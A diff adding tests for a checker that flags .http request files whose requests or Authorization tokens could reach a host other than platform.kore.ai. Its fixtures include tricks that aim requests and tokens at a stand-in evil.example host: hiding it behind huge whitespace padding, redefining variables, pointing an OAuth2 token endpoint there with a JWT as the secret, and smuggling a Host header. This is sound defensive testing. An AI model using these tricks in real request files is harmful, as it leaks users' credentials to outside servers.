@@ -107,6 +107,69 @@ describe("Where a request goes", () => {
     }
   });
 
+  describe("is asked about where padding hides what counts", () => {
+    const padding = " ".repeat(41_000);
+    for (const [why, text] of [
+      ["in a definition", `@host = https://platform.kore.ai${padding}@evil.example\n\n###\nGET {{host}}/x\n`],
+      ["in front of a definition", `@host = https://platform.kore.ai\n${padding}@host = https://evil.example\n\n###\nGET {{host}}/x\n`],
+      ["in a request line", `GET https://platform.kore.ai${padding}@evil.example/x\n`],
+      ["in a name", `@${"a".repeat(300)} = https://platform.kore.ai\n###\nGET {{${"a".repeat(300)}}}/x\n`],
+      ["in front of a nested request", `GET https://platform.kore.ai/x\n\n${" ".repeat(300)}GET https://evil.example/\n`],
+      ["in an expression", `GET https://platform.kore.ai/x\nx: {{${padding}request.url="https://evil.example"}}\n`],
+    ] as const) {
+      it(why, () => assert.deepEqual(destinationsIn(text).filter((each) => goesToOwnHost(each, app)), []));
+    }
+  });
+
+  it("is asked about where an answer may be taken for a variable, in each way that clients name it", () => {
+    const own = "https://platform.kore.ai";
+    for (const text of [
+      `@myHost = ${own}\n\n### my host\nGET https://evil.example\n\n###\nGET {{myHost}}/x\n`,
+      `@my-host = ${own}\n\n### My  Host\nGET https://evil.example\n\n###\nGET {{my-host}}/x\n`,
+      `@host = ${own}\n\n###\n#\u00a0@name host\nGET https://evil.example\n\n###\nGET {{host}}/x\n`,
+      `@hostResponse = ${own}\n\n###\n// @name host\nGET https://evil.example\n\n###\nGET {{hostResponse}}/x\n`,
+      // What is defined below its use has an earlier value, or one of an environment.
+      `###\n@h = {{other}}\n@other = ${own}\nGET {{h}}/x\n`,
+      `@h = {{other}}\n@other = ${own}\n\n###\nGET {{h}}/x\n`,
+      `@h = {{other}}\n\n###\n@other = ${own}\nGET {{h}}/x\n`,
+      `###\nGET {{host}}/x\n\n###\n@host = ${own}\n`,
+    ]) assert.equal(unasked(text, "/x"), false, text);
+    assert.equal(unasked(`@other = ${own}\n@h = {{other}}\n\n###\nGET {{h}}/x\n`, "/x"), true);
+    assert.equal(unasked(`@other = ${own}\n\n###\n@h = {{other}}\nGET {{h}}/x\n`, "/x"), true);
+  });
+
+  it("is asked about where the header “Authorization” makes httpYac ask another server", () => {
+    const head = "@a_tokenEndpoint = https://evil.example/t\n@a_clientId = x\n@tok = eyJ\n@a_clientSecret = {{tok}}\n@o = oauth2\n@p = oauth2 client_credentials a\n@b = bearer eyJ.a.b\n\n###\nGET https://platform.kore.ai/x\n";
+    for (const value of ["oauth2", "oauth2 client_credentials a", "OpenID a", "{{o}}", "{{p}}", "{{nobody}}", "{{$processEnv SOMETHING}}", "{{o}} client_credentials a", "digest a b", "aws a b", "cognito a", "bearer"]) {
+      assert.equal(unasked(`${head}Authorization: ${value}\n`, "GET"), value === "bearer", value);
+      assert.equal(unasked(`${head}  authorization : ${value}\n`, "GET"), value === "bearer", value);
+    }
+    for (const value of ["bearer eyJ.a.b", "Bearer {{tok}}", "eyJ.a.b", "{{tok}}", "{{ b }}", "{{$processEnv JWT_APPS_MINE}}", "Basic abc="]) assert.equal(unasked(`${head}Authorization: ${value}\n`, "GET"), true, value);
+  });
+
+  it("finds whatever a client may take for a request", () => {
+    for (const text of [
+      "ws://evil.example/x\nauth: t\n",
+      "ws:evil.example/x\nauth: t\n",
+      "mqtt://evil.example/x\nauth: t\n",
+      "\u00a0# note\nGET https://evil.example/x\nauth: t\n",
+      "< ./pre.js\nGET https://evil.example/x\nauth: t\n",
+      "< {%\n%}\nGET https://evil.example/x\n",
+      "some words\nGET https://evil.example/x\n",
+      "curl https://evil.example/x\n",
+      "GRPC evil.example:443/x\n",
+      "WS wss://evil.example/x\n",
+      "/relative\n",
+    ]) {
+      const [found, ...more] = destinationsIn(text);
+      assert.ok(found && more.length === 0, text);
+      assert.ok(found.doubts.length > 0, text);
+    }
+    for (const text of ["", "# jwt-app: Sample\n@host = x\n", "auth: eyJ.a.b\n", "\t🤖 eyJ.a.b eyJ.a.b\n"]) assert.deepEqual(destinationsIn(text), [], text);
+    assert.equal(unasked("GET https://platform.kore.ai\n  .evil.example:443/x\n"), false);
+    assert.equal(unasked("@a = {{b}}\n@b = x\\nHost: evil.example\n\n###\nGET https://platform.kore.ai/{{a}}\n"), false);
+  });
+
   describe("is asked about where something in the file may change it", () => {
     const request = "\n###\nGET https://platform.kore.ai/x\nauth: t\n";
     for (const [why, text] of [
@@ -227,6 +290,7 @@ describe("Where a request goes", () => {
 const line = fc.oneof(
   fc.constantFrom(
     ...["@host = https://platform.kore.ai", "@host = https://evil.example", "@host https://evil.example", "@host := https://evil.example", "  @host = https://evil.example", '@host = "https://evil.example"'],
+    ...["### host", "### o ther", "#\u00a0@name host", "\u00a0# x", "Authorization: {{other}}", "Authorization: bearer {{a}}", "Authorization: oauth2 client_credentials a", "ws://evil.example/x", "  .evil.example/x", `${" ".repeat(250)}GET https://evil.example/`],
     ...["@host = https://platform.kore.ai{@evil.example", "@other = platform.kore.ai", "@other = evil.example", "@host = https://{{other}}", "@other = platform\\.kore.ai", "@a = b", "@request = https://evil.example"],
     ...["", "", "###", "### title", "####", " ###", "# comment", "// comment", "# @name host", "# @name one", "/*", "*/", "{}", "auth: x", "Host: evil.example", "Host: platform.kore.ai", "plain text", "?q=1", "&a={{other}}", "/evil.example", "<> out.json"],
   ),
